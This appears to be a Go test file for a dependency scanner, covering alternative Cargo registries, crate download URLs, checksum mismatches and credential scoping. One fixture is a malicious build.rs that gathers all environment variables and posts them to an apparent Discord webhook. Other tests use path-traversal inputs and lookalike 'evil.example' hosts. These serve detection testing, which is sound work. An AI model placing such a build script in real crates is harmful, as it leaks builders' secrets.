package content

import (
	"context"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tollgate-dev/tollgate/lockfiles"
	"github.com/tollgate-dev/tollgate/registry"
	"github.com/tollgate-dev/tollgate/scanner"
)

// altRegistry is an httptest alternative crate registry: a sparse index's
// config.json and the .crate files at the paths its dl names.
type altRegistry struct {
	t      *testing.T
	srv    *httptest.Server
	mu     sync.Mutex
	files  map[string][]byte // by URL path
	status map[string]int    // a status instead of the file, by URL path
	// requests are the paths asked for, with their Authorization header.
	requests []string
}

func newAltRegistry(t *testing.T) *altRegistry {
	r := &altRegistry{t: t, files: map[string][]byte{}, status: map[string]int{}}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.requests = append(r.requests, req.URL.Path+" "+req.Header.Get("Authorization"))
		data, ok := r.files[req.URL.Path]
		code := r.status[req.URL.Path]
		r.mu.Unlock()
		if code != 0 {
			w.WriteHeader(code)
			return
		}
		if !ok {
			http.NotFound(w, req)
			return
		}
		w.Write(data)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *altRegistry) serve(path string, data []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.files[path] = data
}

// asked returns the requests so far and forgets them.
func (r *altRegistry) asked() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := r.requests
	r.requests = nil
	return out
}

func (r *altRegistry) count(prefix string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	n := 0
	for _, q := range r.requests {
		if strings.HasPrefix(q, prefix) {
			n++
		}
	}
	return n
}

var (
	crabOld = files{"Cargo.toml": "[package]\nname = \"crab\"\nbuild = \"build.rs\"\n", "build.rs": "fn main() { cc::Build::new().file(\"x.c\").compile(\"x\"); }\n", "src/lib.rs": "pub fn f() {}\n"}
	crabBad = files{"Cargo.toml": "[package]\nname = \"crab\"\nbuild = \"build.rs\"\n", "build.rs": "fn main() { cc::Build::new().file(\"x.c\").compile(\"x\");\n let e: Vec<_> = std::env::vars().collect();\n reqwest::blocking::Client::new().post(\"" + discord + "\").body(format!(\"{:?}\", e)).send().ok(); }\n", "src/lib.rs": "pub fn f() {}\n"}
)

// crate is the Cargo.lock entry of a crate of source whose .crate is data.
func altCrate(name, version, source string, data []byte) lockfiles.Package {
	return lockfiles.Package{Ecosystem: lockfiles.EcosystemCrates, Name: name, Version: version, Path: "Cargo.lock", Line: 9,
		Integrity: sha256Hex(data), Resolved: source, Source: lockfiles.SourceRegistry, PURL: lockfiles.PURL(lockfiles.EcosystemCrates, name, version, nil)}
}

func runChanges(t *testing.T, c Check, changes ...lockfiles.Change) ([]scanner.Finding, []scanner.Skipped) {
	t.Helper()
	return c.packages(t.Context(), &scanner.Input{Mode: scanner.ModePullRequest, Changes: changes})
}

func crateUpdated(p, prev lockfiles.Package) lockfiles.Change {
	return lockfiles.Change{Kind: lockfiles.ChangeUpdated, Package: p, Previous: &prev}
}

func crateAdded(p lockfiles.Package) lockfiles.Change {
	return lockfiles.Change{Kind: lockfiles.ChangeAdded, Package: p}
}

// A sparse registry whose dl has no marker: crates are at
// <dl>/<crate>/<version>/download. A malicious update is found through it,
// config.json is read once for the run, and a .crate that is not the
// locked one is a mismatch.
func TestAlternativeSparseRegistryPlainDL(t *testing.T) {
	r := newAltRegistry(t)
	r.serve("/index/config.json", []byte(`{"dl": "`+r.srv.URL+`/api/v1/crates", "api": "`+r.srv.URL+`"}`))
	source := "sparse+" + r.srv.URL + "/index/"
	oldData := buildTar(t, "crab-1.0.0/", crabOld, true, false)
	badData := buildTar(t, "crab-1.0.1/", crabBad, true, false)
	r.serve("/api/v1/crates/crab/1.0.0/download", oldData)
	r.serve("/api/v1/crates/crab/1.0.1/download", badData)
	// The crates.io client must not be asked about another registry's crate.
	cratesIO := &fakeRegistry{eco: lockfiles.EcosystemCrates, versions: map[string][]registry.Version{}}
	c := New(Options{HTTPClient: r.srv.Client(), MinBackoff: time.Millisecond, Registries: map[string]registry.Client{lockfiles.EcosystemCrates: cratesIO}})

	oldPkg, badPkg := altCrate("crab", "1.0.0", source, oldData), altCrate("crab", "1.0.1", source, badData)
	got, skipped := runChanges(t, c, crateUpdated(badPkg, oldPkg))
	if len(skipped) != 0 || len(got) != 1 || got[0].RuleID != "install-script-capability" || got[0].Severity != scanner.SeverityCritical || !strings.HasPrefix(got[0].Evidence, "build.rs: ") {
		t.Fatalf("malicious update: %s, skipped %+v", summarise(got), skipped)
	}
	if !strings.HasPrefix(got[0].Message, "crates crab 1.0.1 (updated from 1.0.0) adds ") {
		t.Errorf("message %q", got[0].Message)
	}
	if n := r.count("/index/config.json"); n != 1 {
		t.Errorf("config.json read %d times for two versions, want once: %v", n, r.asked())
	}
	r.asked()

	// A rebuild of the same files is quiet; config.json is not read again.
	rebuilt := buildTar(t, "crab-1.0.2/", crabOld, true, true)
	r.serve("/api/v1/crates/crab/1.0.2/download", rebuilt)
	if got, skipped := runChanges(t, c, crateUpdated(altCrate("crab", "1.0.2", source, rebuilt), oldPkg)); len(got) != 0 || len(skipped) != 0 {
		t.Errorf("rebuild: %s, skipped %+v", summarise(got), skipped)
	}
	if asked := r.asked(); slices.ContainsFunc(asked, func(q string) bool { return strings.HasPrefix(q, "/index/") }) {
		t.Errorf("config.json read again in the same run: %v", asked)
	}

	// Cargo.lock's checksum is not what the registry serves.
	tampered := badPkg
	tampered.Integrity = oldPkg.Integrity
	got, _ = runChanges(t, c, crateUpdated(tampered, oldPkg))
	if len(got) != 1 || got[0].RuleID != RuleIntegrityMismatch || got[0].Severity != scanner.SeverityCritical || !strings.HasPrefix(got[0].Message, "crates crab 1.0.1") {
		t.Errorf("mismatch: %s", summarise(got))
	}

	// Without a checksum the crate is analysed unverified, never checked
	// against crates.io's crate of the same name.
	cratesIO.versions["crab"] = []registry.Version{{Version: "1.0.0", Digest: "sha256:" + strings.Repeat("0", 64)}}
	unhashed := oldPkg
	unhashed.Integrity = ""
	got, skipped = runChanges(t, c, crateAdded(unhashed))
	if len(got) != 0 || len(skipped) != 1 || !skipped[0].ByChoice || !strings.Contains(skipped[0].Reason, "without verifying their integrity") {
		t.Errorf("no checksum: %s, skipped %+v", summarise(got), skipped)
	}
}

// cargo's index prefixes: "1", "2", "3/{first}", "{first two}/{next two}";
// {lowerprefix} of the lower-cased name; a dl without a marker gets
// /{crate}/{version}/download.
func TestCrateDownloadURL(t *testing.T) {
	const sum = "ab12" + "0000000000000000000000000000000000000000000000000000000000cd"
	tmpl := "https://r.example/dl/{prefix}/{lowerprefix}/{crate}/{version}/{sha256-checksum}"
	for _, tc := range []struct{ name, prefix, lower string }{
		{"a", "1", "1"},
		{"Z", "1", "1"},
		{"ab", "2", "2"},
		{"abc", "3/a", "3/a"},
		{"Abc", "3/A", "3/a"},
		{"cargo", "ca/rg", "ca/rg"},
		{"AbCd", "Ab/Cd", "ab/cd"},
		{"My-Crate_2", "My/-C", "my/-c"},
	} {
		got, err := crateDownloadURL(tmpl, tc.name, "1.2.3-rc.1+build.5", sum)
		want := "https://r.example/dl/" + tc.prefix + "/" + tc.lower + "/" + tc.name + "/1.2.3-rc.1+build.5/" + sum
		if err != nil || got != want {
			t.Errorf("%s: %q, %v; want %q", tc.name, got, err, want)
		}
	}
	for dl, want := range map[string]string{
		"https://r.example/api/v1/crates":           "https://r.example/api/v1/crates/serde/1.0.0/download",
		"https://r.example/{crate}-{version}.crate": "https://r.example/serde-1.0.0.crate",
		"https://r.example/c/{lowerprefix}/x":       "https://r.example/c/se/rd/x",
	} {
		if got, err := crateDownloadURL(dl, "serde", "1.0.0", ""); err != nil || got != want {
			t.Errorf("%s: %q, %v; want %q", dl, got, err, want)
		}
	}
	for _, bad := range []struct{ dl, name, version, sum string }{
		{"https://r.example/{sha256-checksum}", "serde", "1.0.0", ""}, // the template needs the checksum
		{"https://r.example/dl", "../../admin", "1.0.0", ""},          // not a crate name
		{"https://r.example/dl", "serde", "1.0.0/../../x", ""},
		{"https://r.example/dl", "serde", "1.0.0?x=1", ""},
		{"file:///etc/{crate}", "serde", "1.0.0", ""}, // not http(s)
		{"{crate}/{version}", "serde", "1.0.0", ""},
	} {
		if got, err := crateDownloadURL(bad.dl, bad.name, bad.version, bad.sum); err == nil {
			t.Errorf("%+v: %q, want an error", bad, got)
		}
	}
}

// A sparse registry whose dl is a template with {prefix}, {lowerprefix} and
// {sha256-checksum}: crates of 1, 2, 3 and 4+ characters are fetched where
// cargo would fetch them, and a malicious update is found through it.
func TestAlternativeSparseRegistryTemplate(t *testing.T) {
	r := newAltRegistry(t)
	r.serve("/reg/config.json", []byte(`{"dl": "`+r.srv.URL+`/files/{prefix}/{lowerprefix}/{crate}/{version}/{sha256-checksum}.crate", "auth-required": false}`))
	source := "sparse+" + r.srv.URL + "/reg/"
	c := New(Options{HTTPClient: r.srv.Client(), MinBackoff: time.Millisecond})
	var changes []lockfiles.Change
	var want []string
	for _, tc := range []struct{ name, prefix, lower string }{
		{"a", "1", "1"}, {"Xy", "2", "2"}, {"Abc", "3/A", "3/a"}, {"SerDe", "Se/rD", "se/rd"},
	} {
		data := buildTar(t, tc.name+"-0.1.0/", files{"Cargo.toml": "[package]\n", "src/lib.rs": "pub fn f() {}\n"}, true, false)
		path := "/files/" + tc.prefix + "/" + tc.lower + "/" + tc.name + "/0.1.0/" + sha256Hex(data) + ".crate"
		r.serve(path, data)
		want = append(want, path+" ")
		changes = append(changes, crateAdded(altCrate(tc.name, "0.1.0", source, data)))
	}
	got, skipped := runChanges(t, c, changes...)
	if len(got) != 0 || len(skipped) != 0 {
		t.Fatalf("benign crates: %s, skipped %+v", summarise(got), skipped)
	}
	asked := r.asked()
	for _, w := range want {
		if !slices.Contains(asked, w) {
			t.Errorf("%q not fetched: %v", w, asked)
		}
	}
	if n := len(slices.DeleteFunc(slices.Clone(asked), func(q string) bool { return q != "/reg/config.json " })); n != 1 {
		t.Errorf("config.json read %d times, want once: %v", n, asked)
	}

	oldData := buildTar(t, "crab-1.0.0/", crabOld, true, false)
	badData := buildTar(t, "crab-1.0.1/", crabBad, true, false)
	r.serve("/files/cr/ab/cr/ab/crab/1.0.0/"+sha256Hex(oldData)+".crate", oldData)
	r.serve("/files/cr/ab/cr/ab/crab/1.0.1/"+sha256Hex(badData)+".crate", badData)
	oldPkg := altCrate("crab", "1.0.0", source, oldData)
	got, skipped = runChanges(t, c, crateUpdated(altCrate("crab", "1.0.1", source, badData), oldPkg))
	if len(skipped) != 0 || len(got) != 1 || got[0].RuleID != "install-script-capability" || got[0].Severity != scanner.SeverityCritical || !strings.HasPrefix(got[0].Evidence, "build.rs: ") {
		t.Fatalf("malicious update: %s, skipped %+v", summarise(got), skipped)
	}

	// The registry serves other bytes at the locked checksum's URL.
	r.serve("/files/cr/ab/cr/ab/crab/1.0.1/"+sha256Hex(badData)+".crate", oldData)
	got, _ = runChanges(t, c, crateUpdated(altCrate("crab", "1.0.1", source, badData), oldPkg))
	if len(got) != 1 || got[0].RuleID != RuleIntegrityMismatch || got[0].Severity != scanner.SeverityCritical {
		t.Errorf("mismatch: %s", summarise(got))
	}
}

// A registry whose config.json is missing, not JSON, names no dl, or is
// over 64 KiB is a skipped entry naming the registry: a failure, not a
// choice.
func TestAlternativeRegistryConfigUnreadable(t *testing.T) {
	r := newAltRegistry(t)
	data := buildTar(t, "crab-1.0.0/", crabOld, true, false)
	r.serve("/api/v1/crates/crab/1.0.0/download", data)
	r.serve("/garbage/config.json", []byte("<html>not here</html>"))
	r.serve("/nodl/config.json", []byte(`{"api": "https://x.example"}`))
	r.serve("/large/config.json", []byte(`{"dl": "`+r.srv.URL+`/api/v1/crates", "pad": "`+strings.Repeat("x", 70<<10)+`"}`))
	r.status["/down/config.json"] = http.StatusInternalServerError
	for dir, want := range map[string]string{
		"missing": "HTTP 404",
		"garbage": "not a registry config.json",
		"nodl":    "names no download URL",
		"large":   "larger than 65536 bytes",
		"down":    "HTTP 500",
	} {
		t.Run(dir, func(t *testing.T) {
			source := "sparse+" + r.srv.URL + "/" + dir + "/"
			c := New(Options{HTTPClient: r.srv.Client(), MinBackoff: time.Millisecond})
			got, skipped := runChanges(t, c, crateAdded(altCrate("crab", "1.0.0", source, data)))
			if len(got) != 0 || len(skipped) != 1 || skipped[0].ByChoice ||
				!strings.Contains(skipped[0].Reason, "could not be checked") || !strings.Contains(skipped[0].Reason, "crates crab@1.0.0") ||
				!strings.Contains(skipped[0].Reason, "alternative registry "+source) || !strings.Contains(skipped[0].Reason, want) {
				t.Errorf("findings %s, skipped %+v; want a failure naming %s and %q", summarise(got), skipped, source, want)
			}
			if n := r.count("/api/"); n != 0 {
				t.Errorf("a crate was fetched without a readable config.json: %v", r.asked())
			}
			r.asked()
		})
	}
}

// The registry's credentials go to its own origin only: config.json and
// the crate on the configured registry's origin carry them; an index or a
// dl on another origin does not.
func TestAlternativeRegistryCredentials(t *testing.T) {
	private := newAltRegistry(t)
	other := newAltRegistry(t)
	data := buildTar(t, "crab-1.0.0/", crabOld, true, false)
	private.serve("/index/config.json", []byte(`{"dl": "`+private.srv.URL+`/dl", "auth-required": true}`))
	private.serve("/dl/crab/1.0.0/download", data)
	other.serve("/index/config.json", []byte(`{"dl": "`+other.srv.URL+`/dl"}`))
	other.serve("/dl/crab/1.0.0/download", data)
	c := New(Options{HTTPClient: private.srv.Client(), MinBackoff: time.Millisecond,
		Bases:       map[string]string{"crates": private.srv.URL},
		Credentials: map[string]registry.Credentials{"crates": {Token: "cio_private"}}})
	got, skipped := runChanges(t, c,
		crateAdded(altCrate("crab", "1.0.0", "sparse+"+private.srv.URL+"/index/", data)),
		crateAdded(altCrate("crab", "1.0.0", "sparse+"+other.srv.URL+"/index/", data)))
	if len(got) != 0 || len(skipped) != 0 {
		t.Fatalf("findings %s, skipped %+v", summarise(got), skipped)
	}
	if asked := private.asked(); !slices.Contains(asked, "/index/config.json Bearer cio_private") || !slices.Contains(asked, "/dl/crab/1.0.0/download Bearer cio_private") {
		t.Errorf("the registry's own origin was asked without its credentials: %v", asked)
	}
	for _, q := range other.asked() {
		if strings.Contains(q, "cio_private") {
			t.Errorf("credentials sent to another origin: %q", q)
		}
	}
}

// A git index on GitHub: its config.json is read from the repository's
// default branch over HTTP (no clone). Any other git index is a skipped
// entry naming the registry, as before, and nothing is fetched.
func TestAlternativeGitIndex(t *testing.T) {
	raw := newAltRegistry(t)
	dl := newAltRegistry(t)
	data := buildTar(t, "crab-1.0.0/", crabOld, true, false)
	raw.serve("/acme/crate-index/HEAD/config.json", []byte(`{"dl": "`+dl.srv.URL+`/crates/{crate}/{crate}-{version}.crate"}`))
	dl.serve("/crates/crab/crab-1.0.0.crate", data)
	c := New(Options{HTTPClient: raw.srv.Client(), MinBackoff: time.Millisecond})
	c.f.rawGitHub = raw.srv.URL

	for _, source := range []string{"registry+https://github.com/acme/crate-index", "registry+https://github.com/acme/crate-index.git"} {
		got, skipped := runChanges(t, c, crateAdded(altCrate("crab", "1.0.0", source, data)))
		if len(got) != 0 || len(skipped) != 0 {
			t.Errorf("%s: findings %s, skipped %+v", source, summarise(got), skipped)
		}
	}
	if asked := raw.asked(); !slices.Equal(asked, []string{"/acme/crate-index/HEAD/config.json "}) {
		t.Errorf("raw GitHub asked %v, want config.json once", asked)
	}
	if asked := dl.asked(); len(asked) != 2 {
		t.Errorf("crate downloads %v", asked)
	}

	for _, source := range []string{
		"registry+https://gitlab.example/acme/crate-index",
		"registry+ssh://git@github.com/acme/crate-index",
		"registry+https://github.com/acme/crate-index/tree/main",
		"registry+file:///srv/index",
	} {
		got, skipped := runChanges(t, c, crateAdded(altCrate("crab", "1.0.0", source, data)))
		if len(got) != 0 || len(skipped) != 1 || skipped[0].ByChoice || !strings.Contains(skipped[0].Reason, "alternative registry "+source) || !strings.Contains(skipped[0].Reason, "git index is not read") {
			t.Errorf("%s: findings %s, skipped %+v", source, summarise(got), skipped)
		}
	}
	if asked := append(raw.asked(), dl.asked()...); len(asked) != 0 {
		t.Errorf("fetched for an unread git index: %v", asked)
	}
}

// Only crates.io's own index URLs are crates.io: a source that merely
// contains them is another registry.
func TestIsCratesIO(t *testing.T) {
	for source, want := range map[string]bool{
		"": true,
		"registry+https://github.com/rust-lang/crates.io-index":        true,
		"sparse+https://index.crates.io/":                              true,
		"sparse+https://index.crates.io":                               true,
		"sparse+https://evil.example/index.crates.io/":                 false,
		"registry+https://github.com/rust-lang/crates.io-index-mirror": false,
		"sparse+https://index.crates.io.evil.example/":                 false,
	} {
		if got := isCratesIO(source); got != want {
			t.Errorf("isCratesIO(%q) = %v", source, got)
		}
	}
}

// config.json is read once per run, its failures remembered too, except a
// read whose own context ended: the next package reads it again.
func TestCrateConfigCache(t *testing.T) {
	var mu sync.Mutex
	n := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		n++
		first := n == 1
		mu.Unlock()
		if r.URL.Path != "/ok/config.json" {
			http.NotFound(w, r)
			return
		}
		if first {
			select {
			case <-r.Context().Done():
			case <-time.After(5 * time.Second):
			}
			return
		}
		w.Write([]byte(`{"dl": "https://r.example/dl"}`))
	}))
	defer srv.Close()
	asked := func() int { mu.Lock(); defer mu.Unlock(); return n }
	c := New(Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond})
	short, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	if _, err := c.f.crateConfig(short, srv.URL+"/ok/config.json"); err == nil {
		t.Fatal("a read out of its time succeeded")
	}
	for range 3 {
		cfg, err := c.f.crateConfig(t.Context(), srv.URL+"/ok/config.json")
		if err != nil || cfg.DL != "https://r.example/dl" {
			t.Fatalf("%+v, %v", cfg, err)
		}
	}
	if got := asked(); got != 2 {
		t.Errorf("%d requests, want 2 (the timed-out one and one more)", got)
	}
	for range 3 {
		if _, err := c.f.crateConfig(t.Context(), srv.URL+"/gone/config.json"); err == nil || !strings.Contains(err.Error(), "HTTP 404") {
			t.Fatalf("missing config.json: %v", err)
		}
	}
	if got := asked(); got != 3 {
		t.Errorf("%d requests, want 3: a missing config.json is asked once", got)
	}
}
